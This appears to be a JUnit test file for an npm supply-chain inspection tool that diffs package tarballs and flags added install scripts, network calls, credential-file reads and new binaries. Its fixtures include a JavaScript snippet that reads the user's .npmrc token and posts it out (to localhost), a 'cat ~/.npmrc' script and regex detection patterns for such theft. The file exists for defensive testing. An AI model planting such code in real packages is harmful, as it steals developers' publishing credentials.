package dev.lazaret.proxy.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.policy.content.CodeFinding;
import dev.lazaret.policy.content.ContentFacts;
import dev.lazaret.policy.content.ContentFacts.AddedDependency;
import dev.lazaret.policy.content.ContentFacts.Change;
import dev.lazaret.policy.content.ContentFacts.ChangedFile;
import dev.lazaret.proxy.testing.Tarball;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

class ContentAnalysisTest {

  private static final String STEAL = """
      const fs = require('fs'), https = require('https');
      const token = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
      https.request({host: '127.0.0.1', method: 'POST'}).end(token);
      """;

  private final TarballInspector inspector = new TarballInspector(InspectionLimits.defaults());
  /** Every path the scanner was asked about, in order. */
  private final List<String> scanned = new ArrayList<>();
  /** A stand-in for the real scanner: network calls and .npmrc reads, one finding a match. */
  private final ContentAnalysis.Scanner scanner = (path, text) -> {
    scanned.add(path);
    List<CodeFinding> out = new ArrayList<>();
    find(out, CodeFinding.Kind.NETWORK_CALL, "https\\.request\\([^)]*\\)", path, text);
    find(out, CodeFinding.Kind.SECRET_READ, "\\.npmrc", path, text);
    return out;
  };

  private static void find(List<CodeFinding> out, CodeFinding.Kind kind, String regex,
      String path, String text) {
    Matcher m = Pattern.compile(regex).matcher(text);
    while (m.find()) {
      int line = 1 + (int) text.substring(0, m.start()).chars().filter(c -> c == '\n').count();
      out.add(new CodeFinding(kind, path, line, m.group()));
    }
  }

  private Unpacked unpack(Map<String, ?> files) {
    Map<String, byte[]> bytes = new HashMap<>();
    files.forEach((path, content) -> bytes.put(path, content instanceof byte[] b ? b
        : content.toString().getBytes(StandardCharsets.UTF_8)));
    return inspector.inspect(Tarball.pack(bytes).bytes());
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String manifest(String scripts, String dependencies) {
    return "{\"name\":\"lib\",\"version\":\"1.0.0\",\"scripts\":{" + scripts
        + "},\"dependencies\":{" + dependencies + "}}";
  }

  private static ChangedFile file(ContentFacts facts, String path) {
    return facts.changed().stream().filter(f -> f.path().equals(path)).findFirst()
        .orElseThrow(() -> new AssertionError(path + " not in " + facts.changed()));
  }

  @Test
  void anAddedPostinstallIsListedWithTheFileItRunsAndItsFindings() {
    Unpacked before = unpack(Map.of("package.json", manifest("", ""),
        "index.js", "module.exports = 1;\n", "README.md", "# lib\n"));
    Unpacked after = unpack(Map.of(
        "package.json", manifest("\"postinstall\":\"node steal\"", ""),
        "index.js", "module.exports = 1;\n", "README.md", "# lib\n", "steal.js", STEAL));

    ContentFacts facts = new ContentAnalysis(scanner)
        .analyze("1.0.0", before, after, ContentAnalysis.Dependencies.unknown());

    assertThat(facts.complete()).isTrue();
    assertThat(facts.previousVersion()).isEqualTo("1.0.0");
    assertThat(facts.installScripts()).containsExactly(Map.entry("postinstall", "node steal"));
    assertThat(facts.previousInstallScripts()).isEmpty();
    // Unchanged files are not listed; package.json changed (its scripts).
    assertThat(facts.changed()).extracting(ChangedFile::path)
        .containsExactly("package.json", "steal.js");
    ChangedFile steal = file(facts, "steal.js");
    assertThat(steal.change()).isEqualTo(Change.ADDED);
    assertThat(steal.size()).isEqualTo(STEAL.length());
    assertThat(steal.previousSize()).isZero();
    assertThat(steal.runAtInstall()).isTrue();
    assertThat(steal.findings()).extracting(CodeFinding::kind).containsExactly(
        CodeFinding.Kind.NETWORK_CALL, CodeFinding.Kind.SECRET_READ);
    assertThat(steal.findings().get(1).line()).isEqualTo(2);
    assertThat(file(facts, "package.json").change()).isEqualTo(Change.CHANGED);
    assertThat(file(facts, "package.json").runAtInstall()).isFalse();
    assertThat(facts.findings()).hasSize(2);
  }

  @Test
  void onlyFindingsTheFilesPreviousContentDidNotHaveAreKept() {
    String old = "https.request({host: 'telemetry'}).end();\n";
    String now = "// moved down\n" + old.replace("telemetry", "telemetry-v2")
        + "require('fs').readFileSync(home + '/.npmrc');\n";
    Unpacked before = unpack(Map.of("package.json", manifest("", ""), "lib/send.js", old));
    Unpacked after = unpack(Map.of("package.json", manifest("", ""), "lib/send.js", now));

    ContentFacts facts = new ContentAnalysis(scanner)
        .analyze("1.0.0", before, after, ContentAnalysis.Dependencies.unknown());

    ChangedFile send = file(facts, "lib/send.js");
    assertThat(send.change()).isEqualTo(Change.CHANGED);
    assertThat(send.previousSize()).isEqualTo(old.length());
    // It made a network call before (an edited one is not new); reading .npmrc is.
    assertThat(send.findings()).singleElement().satisfies(f -> {
      assertThat(f.kind()).isEqualTo(CodeFinding.Kind.SECRET_READ);
      assertThat(f.line()).isEqualTo(3);
    });
  }

  @Test
  void aFirstReleaseAddsEverythingAndProseIsNotScanned() {
    Unpacked first = unpack(Map.of("package.json", manifest("", ""),
        "index.js", "https.request(x)\n", "README.md", "Call https.request(url) yourself.\n",
        "bin/run", "#!/bin/sh\ncat ~/.npmrc\n"));

    ContentFacts facts = new ContentAnalysis(scanner)
        .analyze(null, null, first, ContentAnalysis.Dependencies.unknown());

    assertThat(facts.previousVersion()).isNull();
    assertThat(facts.changed()).extracting(ChangedFile::change).containsOnly(Change.ADDED);
    assertThat(facts.changed()).extracting(ChangedFile::path)
        .containsExactly("README.md", "bin/run", "index.js", "package.json");
    assertThat(file(facts, "README.md").findings()).isEmpty();
    assertThat(file(facts, "index.js").findings()).hasSize(1);
    // No extension, but a shebang: a script.
    assertThat(file(facts, "bin/run").findings()).extracting(CodeFinding::kind)
        .containsExactly(CodeFinding.Kind.SECRET_READ);
    assertThat(scanned).doesNotContain("README.md");
  }

  @Test
  void nativeBinariesAreAddedOnlyWherePreviouslyThereWasNone() {
    byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0};
    byte[] elf2 = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 1};
    Unpacked before = unpack(Map.of("package.json", manifest("", ""),
        "prebuilds/linux.node", elf, "data.bin", "text once"));
    Unpacked after = unpack(Map.of("package.json", manifest("", ""),
        "prebuilds/linux.node", elf2, "data.bin", elf, "build/new.so", elf));

    ContentFacts facts = new ContentAnalysis(scanner)
        .analyze("1.0.0", before, after, ContentAnalysis.Dependencies.unknown());

    // A rebuilt binary is not an added one; a binary where text was, or a new one, is.
    assertThat(facts.addedNativeBinaries()).containsExactly("build/new.so", "data.bin");
    assertThat(file(facts, "prebuilds/linux.node").change()).isEqualTo(Change.CHANGED);
  }

  @Test
  void addedDependenciesAreLookedUpAndTheRestListedAsUnknown() {
    Instant created = Instant.parse("2026-03-09T00:00:00Z");
    String many = IntStream.range(0, 20).mapToObj(i -> String.format("\"dep-%02d\":\"^1.0.0\"", i))
        .collect(Collectors.joining(","));
    Unpacked before = unpack(Map.of("package.json",
        manifest("", "\"dep-00\":\"^0.9.0\",\"kept\":\"1.x\"")));
    Unpacked after = unpack(Map.of("package.json",
        manifest("", many + ",\"kept\":\"1.x\"")));
    Map<String, String> askedFor = new LinkedHashMap<>();

    ContentFacts facts = new ContentAnalysis(scanner).analyze("1.0.0", before, after,
        added -> {
          askedFor.putAll(added);
          return Map.of("dep-01", new AddedDependency("dep-01", "^1.0.0", created, true, true));
        });

    // dep-00 was there before (its range changed, it is not added); kept is unchanged.
    assertThat(facts.addedDependencies()).hasSize(19);
    assertThat(askedFor).hasSize(ContentAnalysis.MAX_DEPENDENCIES_LOOKED_UP)
        .containsEntry("dep-01", "^1.0.0").doesNotContainKeys("dep-00", "kept");
    assertThat(facts.addedDependencies().getFirst())
        .isEqualTo(new AddedDependency("dep-01", "^1.0.0", created, true, true));
    assertThat(facts.addedDependencies().get(1))
        .isEqualTo(new AddedDependency("dep-02", "^1.0.0", null, false, false));
  }

  @Test
  void anIncompleteInspectionIsAFailureWithItsReason() {
    Unpacked before = unpack(Map.of("package.json", manifest("", "")));
    Unpacked broken = inspector.inspect(new byte[] {1, 2, 3, 4});

    ContentFacts facts = new ContentAnalysis(scanner)
        .analyze("1.0.0", before, broken, ContentAnalysis.Dependencies.unknown());

    assertThat(facts.complete()).isFalse();
    assertThat(facts.failure()).startsWith("not a gzip archive");
    assertThat(facts.previousVersion()).isEqualTo("1.0.0");
    assertThat(facts.changed()).isEmpty();
  }

  @Test
  void theScanBudgetGoesFirstToWhatRunsAtInstall() {
    Map<String, Object> files = new HashMap<>();
    files.put("package.json", manifest("\"preinstall\":\"node zz/setup.js\"", ""));
    files.put("a.js", "https.request(a)\n");
    files.put("b.js", "https.request(b)\n");
    files.put("zz/setup.js", "https.request(c)\n");
    Unpacked after = unpack(files);

    ContentFacts facts = new ContentAnalysis(scanner, 2, 1 << 20)
        .analyze(null, null, after, ContentAnalysis.Dependencies.unknown());

    assertThat(scanned).containsExactly("zz/setup.js", "package.json");
    assertThat(file(facts, "zz/setup.js").findings()).hasSize(1);
    assertThat(file(facts, "a.js").findings()).isEmpty();
    // Files past the budget are still listed as added.
    assertThat(facts.changed()).hasSize(4);

    scanned.clear();
    new ContentAnalysis(scanner, 10, 20)
        .analyze(null, null, after, ContentAnalysis.Dependencies.unknown());
    // Only files that fit in the characters left are scanned (each script is 17 characters).
    assertThat(scanned).containsExactly("zz/setup.js");
  }

  @Test
  void aFileRunAtInstallIsScannedWholeUpToTheRunBoundAndBeyondItSaysWhyNot() {
    // Shai-Hulud: postinstall ran a webpack bundle far past the ordinary per-file text bound.
    String bundle = "/* webpack */\n" + IntStream.range(0, 60_000)
        .mapToObj(i -> "var v" + i + " = " + (i * 7919L % 100_003) + ";\n")
        .collect(Collectors.joining()) + STEAL;
    ContentFacts facts = new ContentAnalysis(scanner).analyze("1.0.0",
        unpack(Map.of("package.json", manifest("", ""))),
        unpack(Map.of("package.json", manifest("\"postinstall\":\"node bundle.js\"", ""),
            "bundle.js", bundle, "dist/app.js", bundle)),
        ContentAnalysis.Dependencies.unknown());

    ChangedFile run = file(facts, "bundle.js");
    assertThat(run.scanned()).isTrue();
    assertThat(run.findings()).extracting(CodeFinding::kind).contains(
        CodeFinding.Kind.SECRET_READ);
    // The same bundle not run at install keeps the ordinary bound: listed, not scanned.
    assertThat(file(facts, "dist/app.js").notScanned()).isEqualTo("too large to scan");
    assertThat(scanned).doesNotContain("dist/app.js");

    InspectionLimits small = new InspectionLimits(10_000, 64L << 20, 16L << 20, 100, 1L << 20,
        1024, 1024, 1024, 8L << 20, 4096);
    Unpacked tooLarge = new TarballInspector(small).inspect(Tarball.pack(Map.of(
        "package.json", utf8(manifest("\"postinstall\":\"node bundle.js\"", "")),
        "bundle.js", utf8(bundle))).bytes());
    ChangedFile unscanned = file(new ContentAnalysis(scanner).analyze(null, null, tooLarge,
        ContentAnalysis.Dependencies.unknown()), "bundle.js");
    assertThat(unscanned.runAtInstall()).isTrue();
    assertThat(unscanned.findings()).isEmpty();
    assertThat(unscanned.notScanned()).isEqualTo("too large to scan");
  }

  @Test
  void aFileRunAtInstallThatIsNotTextOrPastTheBudgetSaysWhyItWasNotScanned() {
    Unpacked after = unpack(Map.of(
        "package.json", manifest("\"install\":\"node setup.js && sh run.sh\"", ""),
        "setup.js", "https.request(a)\n", "run.sh", new byte[] {0x7f, 'E', 'L', 'F', 0, 1}));

    ContentFacts facts = new ContentAnalysis(scanner, 0, 1 << 20)
        .analyze(null, null, after, ContentAnalysis.Dependencies.unknown());

    assertThat(file(facts, "run.sh").notScanned()).isEqualTo("not text");
    assertThat(file(facts, "setup.js").notScanned()).isEqualTo("past the scanning budget");
    assertThat(facts.changed()).filteredOn(ChangedFile::runAtInstall).hasSize(2);
  }

  @Test
  void repeatedFindingsAreKeptOnceAndEachFileKeepsABoundedNumber() {
    String repeated = "https.request(x)\n".repeat(100);
    String distinct = IntStream.range(0, 50).mapToObj(i -> "https.request(" + i + ")\n")
        .collect(Collectors.joining());
    Unpacked after = unpack(Map.of("package.json", manifest("", ""),
        "a.js", repeated, "b.js", distinct));

    ContentFacts facts = new ContentAnalysis(scanner)
        .analyze(null, null, after, ContentAnalysis.Dependencies.unknown());

    assertThat(file(facts, "a.js").findings()).hasSize(1);
    assertThat(file(facts, "b.js").findings())
        .hasSize(ContentAnalysis.MAX_FINDINGS_PER_FILE)
        .extracting(CodeFinding::excerpt).doesNotHaveDuplicates();
  }
}
